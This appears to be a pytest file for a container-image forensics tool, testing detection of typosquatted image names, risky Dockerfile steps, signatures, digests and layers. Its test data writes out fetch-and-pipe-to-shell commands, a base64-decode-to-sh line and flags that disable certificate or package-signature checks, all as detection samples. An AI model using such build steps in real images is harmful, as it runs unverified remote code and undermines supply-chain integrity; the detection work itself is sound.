"""Whether an image is what it is taken for: imitated names, digests, signatures by real keys, and its build steps."""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from analyze_cases import layer, make_case, rules
from assets.images import descriptor, make_config, pack, sha256

from forensics.analyze import build_analysis
from forensics.analyze.image_names import find_imitated
from forensics.analyze.image_steps import find_steps
from forensics.archive.image import open_image
from forensics.archive.signatures import SIMPLE_SIGNING
from forensics.evidence.case import Case
from forensics.evidence.custody import Actor
from forensics.model import Finding, Severity, Subject

MANIFEST = "application/vnd.oci.image.manifest.v1+json"


@pytest.mark.parametrize(
    ("name", "imitated"),
    [
        ("ngnix", "nginx"),
        ("postgress:16", "postgres"),
        ("pyhton", "python"),
        ("a1pine:3", "alpine"),
        ("rnysql", "mysql"),
        ("nodе", "node"),  # noqa: RUF001 - the last letter is Cyrillic
        ("docker.io/library/ubunut", "ubuntu"),
        ("bitnarni/redis", "bitnami"),
        ("qhcr.io/owner/app", "ghcr.io"),
        ("debain@sha256:" + "a" * 64, "debian"),
    ],
)
def test_names_that_pass_for_others(name: str, imitated: str) -> None:
    assert find_imitated(name) == imitated


@pytest.mark.parametrize(
    "name",
    ["nginx:1.25", "python3", "redis7", "mynginx", "postgresql", "mongodb", "node-app", "store", "orders", "bb:1",
     "registry.corp.example:5000/ngnix", "localhost:5000/pyton", "team/nginx", "ghcr.io/org/ngnix", "nginx-proxy",
     "harbor.example.org/library/ubunut", "", "a", "x" * 5000],
)  # fmt: skip
def test_names_of_ones_own(name: str) -> None:
    assert find_imitated(name) == ""


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("RUN curl -fsSL https://x.example/i.sh | sudo -E bash -", "fetched-and-run"),
        ("RUN wget -qO- x.example/i | /bin/sh", "fetched-and-run"),
        ('RUN bash -c "$(curl -fsSL https://x.example/i)"', "fetched-and-run"),
        ("RUN curl x.example/p.py | python3", "fetched-and-run"),
        ("RUN echo ZWNobyBoaQ== | base64 -d | sh", "decoded-and-run"),
        ("/bin/sh -c #(nop) ADD https://x.example/a.tgz in /opt", "remote-file"),
        ("ADD https://x.example/a.tgz /opt", "remote-file"),
        ("RUN chmod -R 777 /srv", "rights-for-everybody"),
        ("RUN chmod a+rwx /srv", "rights-for-everybody"),
        ("RUN curl -sk https://x.example/a -o a", "checks-disabled"),
        ("RUN wget --no-check-certificate https://x.example/a", "checks-disabled"),
        ("RUN apt-get install -y --allow-unauthenticated x", "checks-disabled"),
        ("RUN apk add --allow-untrusted x.apk", "checks-disabled"),
        ("RUN echo 'deb [trusted=yes] http://x.example ./' > /etc/apt/sources.list", "checks-disabled"),
        ("RUN pip install --trusted-host x.example x", "checks-disabled"),
        ("RUN yum install -y --nogpgcheck x", "checks-disabled"),
    ],
)
def test_build_steps(line: str, rule: str) -> None:
    assert f"image.history.{rule}" in {found.id for found, _ in find_steps(line)}


@pytest.mark.parametrize(
    "line",
    ["RUN apt-get update && apt-get install -y curl wget git", "COPY . /app", "RUN chmod 755 /entrypoint.sh",
     "RUN curl -fsSL https://x.example/a.tgz -o a.tgz && sha256sum -c a.sum", "ADD --checksum=sha256:aa https://x/a /a",
     "RUN base64 -d a > b", "CMD [\"nginx\"]", "RUN curl -fsSL https://x/key | gpg --dearmor -o /k.gpg", "A" * 100_000],
)  # fmt: skip
def test_ordinary_build_steps(line: str) -> None:
    assert list(find_steps(line)) == []


def signed_layout(folder: Path, key: Path, *, about: str = "", kind: str = SIMPLE_SIGNING) -> dict[str, bytes]:
    """Return an OCI layout whose image is signed the way cosign does it, by openssl and *key*."""
    content = layer({"a": "1"})
    config = make_config([content])
    blobs = [config, content]
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": MANIFEST,
            "config": descriptor(config, "application/vnd.oci.image.config.v1+json"),
            "layers": [descriptor(content, "application/vnd.oci.image.layer.v1.tar")],
        }
    ).encode()
    digest = f"sha256:{sha256(manifest)}"
    payload = json.dumps(
        {"critical": {"image": {"docker-manifest-digest": about or digest}}, "optional": None}
    ).encode()
    (folder / "payload").write_bytes(payload)
    command = ["openssl", "dgst", "-sha256", "-sign", str(key), str(folder / "payload")]
    signature = base64.b64encode(subprocess.run(command, check=True, capture_output=True).stdout).decode()
    annotations = {"dev.cosignproject.cosign/signature": signature}
    attached = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": MANIFEST,
            "config": descriptor(b"{}", "application/vnd.oci.image.config.v1+json"),
            "layers": [descriptor(payload, kind, annotations=annotations)],
        }
    ).encode()
    tag = {"org.opencontainers.image.ref.name": digest.replace(":", "-") + ".sig"}
    index = {
        "schemaVersion": 2,
        "manifests": [descriptor(manifest, MANIFEST), descriptor(attached, MANIFEST, annotations=tag)],
    }
    parts = {"oci-layout": b'{"imageLayoutVersion": "1.0.0"}', "index.json": json.dumps(index).encode()}
    return parts | {f"blobs/sha256/{sha256(raw)}": raw for raw in (*blobs, b"{}", manifest, payload, attached)}


def make_key(folder: Path, name: str) -> tuple[Path, Path]:
    private, public = folder / f"{name}.key", folder / f"{name}.pub"
    subprocess.run(["openssl", "ecparam", "-genkey", "-name", "prime256v1", "-noout", "-out", str(private)], check=True)
    subprocess.run(
        ["openssl", "ec", "-in", str(private), "-pubout", "-out", str(public)], check=True, capture_output=True
    )
    return private, public


def examine(root: Path, parts: dict[str, bytes], key: Path | None) -> dict[str, Finding]:
    with Case.create(root, subject=Subject(kind="image", name="x"), actor=Actor(name="t")) as case:
        case.add("image", [pack(parts)], source="t", method="t", filename="image.tar")
        return rules(build_analysis(case, yara=False, image_key=key).findings)


def test_signatures_by_real_keys(tmp_path: Path) -> None:
    private, public = make_key(tmp_path, "own")
    _, other = make_key(tmp_path, "other")
    parts = signed_layout(tmp_path, private)
    assert "image.signature-valid" in examine(tmp_path / "valid", parts, public)
    assert "image.signature-not-verified" in examine(tmp_path / "no-key", parts, None)
    foreign = examine(tmp_path / "foreign", parts, other)["image.signature-invalid"]
    assert foreign.severity is Severity.HIGH
    assert "not of this key" in foreign.matched
    moved = signed_layout(tmp_path, private, about="sha256:" + "b" * 64)
    assert "genuine, but for" in examine(tmp_path / "moved", moved, public)["image.signature-invalid"].matched
    bundle = signed_layout(tmp_path, private, kind="application/vnd.dev.sigstore.bundle.v0.3+json")
    assert "not verified by this version" in examine(tmp_path / "b", bundle, public)["image.signature-invalid"].matched


def test_a_signature_is_no_second_image(tmp_path: Path) -> None:
    private, _ = make_key(tmp_path, "own")
    (tmp_path / "image.tar").write_bytes(pack(signed_layout(tmp_path, private)))
    with open_image(tmp_path / "image.tar") as source:
        assert len(source.images) == 1
        assert len(source.select().signatures) == 1


def test_absence_is_said(tmp_path: Path) -> None:
    with make_case(tmp_path / "case", [layer({"a": "1"})], kind="file") as case:
        analysis = build_analysis(case, yara=False)
        asked = rules(build_analysis(case, yara=False, image_key=make_key(tmp_path, "own")[1]).findings)
    assert any("no signature" in warning for warning in analysis.warnings)
    assert analysis.findings == ()
    assert asked["image.no-signature"].severity is Severity.MEDIUM


@pytest.mark.parametrize(
    ("known", "rule", "severity"),
    [
        (["web@sha256:" + "a" * 64], None, None),
        (["web@sha256:" + "b" * 64], "image.digest-mismatch", Severity.HIGH),
        ([], "image.digest-mismatch", Severity.LOW),
    ],
)
def test_digests(tmp_path: Path, known: list[str], rule: str | None, severity: Severity | None) -> None:
    documents: dict[str, Any] = {
        "inspect": {"Config": {"Image": "web@sha256:" + "a" * 64}, "HostConfig": {}},
        "image-inspect": {"RepoDigests": known, "Config": {}},
    }
    with make_case(tmp_path / "case", [layer({"a": "1"})], documents, kind="file") as case:
        analysis = build_analysis(case, yara=False)
    found = rules(analysis.findings)
    assert (found[rule].severity if rule else None) == severity
    assert ("image.digest-mismatch" in found) == bool(rule)
    assert any("no digest of a registry" in warning for warning in analysis.warnings) == (not known)


def test_a_snapshot_on_other_layers(tmp_path: Path) -> None:
    documents = {"image-inspect": {"RootFS": {"Layers": ["sha256:" + "c" * 64]}, "RepoTags": ["ngnix:latest"]}}
    with make_case(tmp_path / "case", [layer({"a": "1"}), layer({"b": "1"})], documents) as case:
        found = rules(build_analysis(case, yara=False).findings)
    assert found["image.layers-mismatch"].severity is Severity.HIGH
    assert "almost nginx" in found["image.name-imitates"].matched
